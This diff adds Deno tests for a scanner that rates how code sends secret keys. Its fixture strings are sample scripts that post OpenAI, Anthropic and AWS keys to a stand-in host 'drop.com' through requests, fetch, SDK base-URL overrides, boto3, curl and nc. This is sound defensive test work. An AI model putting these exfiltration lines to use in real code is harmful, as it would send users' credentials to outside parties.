@@ -3401,3 +3401,104 @@ Deno.test("a class's method of a client's name shadows no client: axios.post(…
     );
   }
 });
+
+Deno.test("an object holds what it was made with: a method sending self.k or this.k sends the key its constructor was given", () => {
+  const py = "import os, requests\nclass C:\n    def __init__(self, k):\n        self.k = k\n" +
+    "    def send(self, note=None):\n        requests.post(HOST, data=self.k)\n";
+  const js = "class C {\n  constructor(k) {\n    this.k = k;\n  }\n  send(note) {\n" +
+    "    return fetch(HOST, { method: 'POST', headers: { Authorization: this.k } });\n  }\n}\n";
+  const at = (text: string, host: string) => text.replace("HOST", `'https://${host}/x'`);
+  for (
+    const [file, text] of [
+      ["scripts/a.py", `${py}C(os.environ['OPENAI_API_KEY']).send()\n`],
+      ["scripts/a.py", `${py}c = C(os.environ['OPENAI_API_KEY'])\nc.send()\n`],
+      ["scripts/a.mjs", `${js}new C(process.env.OPENAI_API_KEY).send();\n`],
+      ["scripts/a.mjs", `${js}const c = new C(process.env.OPENAI_API_KEY);\nawait c.send();\n`],
+    ]
+  ) {
+    assert.deepEqual(secretSeverities(file!, at(text!, "drop.com")), ["critical"], text);
+    // The same object sending to the key's own API.
+    assert.deepEqual(secretSeverities(file!, at(text!, "api.openai.com")), ["info"], text);
+  }
+  // Through another method of the object (`c.run()` calls `self.send()`).
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      at(
+        `${py}    def run(self):\n        self.send()\nC(os.environ['OPENAI_API_KEY']).run()\n`,
+        "drop.com",
+      ),
+    ),
+    ["critical"],
+  );
+  // A method's argument is not its object: an object made with nothing secret, sent a note.
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      at(`${py}C('public').send(os.environ['OPENAI_API_KEY'])\n`, "drop.com"),
+    ),
+    [],
+  );
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.mjs",
+      "class C {\n  constructor(k) {\n    this.k = k;\n  }\n  send(body) {\n" +
+        "    return fetch('https://drop.com/x', { method: 'POST', body });\n  }\n}\n" +
+        "await new C(process.env.OPENAI_API_KEY).send('hello');\n",
+    ),
+    [],
+  );
+});
+
+Deno.test("a client made with a key and a base address sends the key there: OpenAI(base_url=…), new Anthropic({ baseURL }), boto3's endpoint_url", () => {
+  const py = (base: string) =>
+    `import os\nfrom openai import OpenAI\nc = OpenAI(api_key=os.environ['OPENAI_API_KEY'], base_url=${base})\n`;
+  assert.deepEqual(secretSeverities("scripts/a.py", py("'https://drop.com/v1'")), ["critical"]);
+  assert.deepEqual(secretSeverities("scripts/a.py", py("'https://api.openai.com/v1'")), ["info"]);
+  // A base address the user sets is no constant to judge: as before, no flow.
+  assert.deepEqual(secretSeverities("scripts/a.py", py("os.environ.get('OPENAI_BASE_URL')")), []);
+  const js = (base: string) =>
+    `import Anthropic from '@anthropic-ai/sdk';\nconst c = new Anthropic({ apiKey: process.env.ANTHROPIC_API_KEY, baseURL: '${base}' });\n`;
+  assert.deepEqual(secretSeverities("scripts/a.mjs", js("https://drop.com")), ["critical"]);
+  assert.deepEqual(secretSeverities("scripts/a.mjs", js("https://api.anthropic.com")), ["info"]);
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      "import os, boto3\ns = boto3.client('s3', endpoint_url='https://drop.com', aws_secret_access_key=os.environ['AWS_SECRET_ACCESS_KEY'])\n",
+    ),
+    ["critical"],
+  );
+});
+
+Deno.test("what a script writes to a process's stdin goes where that command sends its stdin: curl -d @-, nc, and asyncio's subprocesses", () => {
+  const key = "os.environ['OPENAI_API_KEY'].encode()";
+  const popen = (argv: string, write: string) =>
+    `import os, subprocess\np = subprocess.Popen(${argv}, stdin=subprocess.PIPE)\n${write}\n`;
+  for (
+    const text of [
+      popen("['curl', '-d', '@-', 'https://drop.com/x']", `p.communicate(${key})`),
+      popen("['nc', 'drop.com', '80']", `p.stdin.write(${key})`),
+      "import os, asyncio\nasync def m():\n    await asyncio.create_subprocess_exec('curl', '-d', os.environ['OPENAI_API_KEY'], 'https://drop.com/x')\n",
+      "import os, asyncio\nasync def m():\n    await asyncio.create_subprocess_shell('curl -d $OPENAI_API_KEY https://drop.com/x')\n",
+    ]
+  ) assert.deepEqual(secretSeverities("scripts/a.py", text), ["critical"], text);
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.mjs",
+      "import { spawn } from 'node:child_process';\nconst p = spawn('curl', ['-d', '@-', 'https://drop.com/x']);\np.stdin.end(process.env.OPENAI_API_KEY);\n",
+    ),
+    ["critical"],
+  );
+  // To the key's own API, or to a program that sends nothing.
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      popen("['curl', '-d', '@-', 'https://api.openai.com/x']", `p.communicate(${key})`),
+    ),
+    ["info"],
+  );
+  assert.deepEqual(
+    secretSeverities("scripts/a.py", popen("['grep', 'x']", `p.communicate(${key})`)),
+    [],
+  );
+});
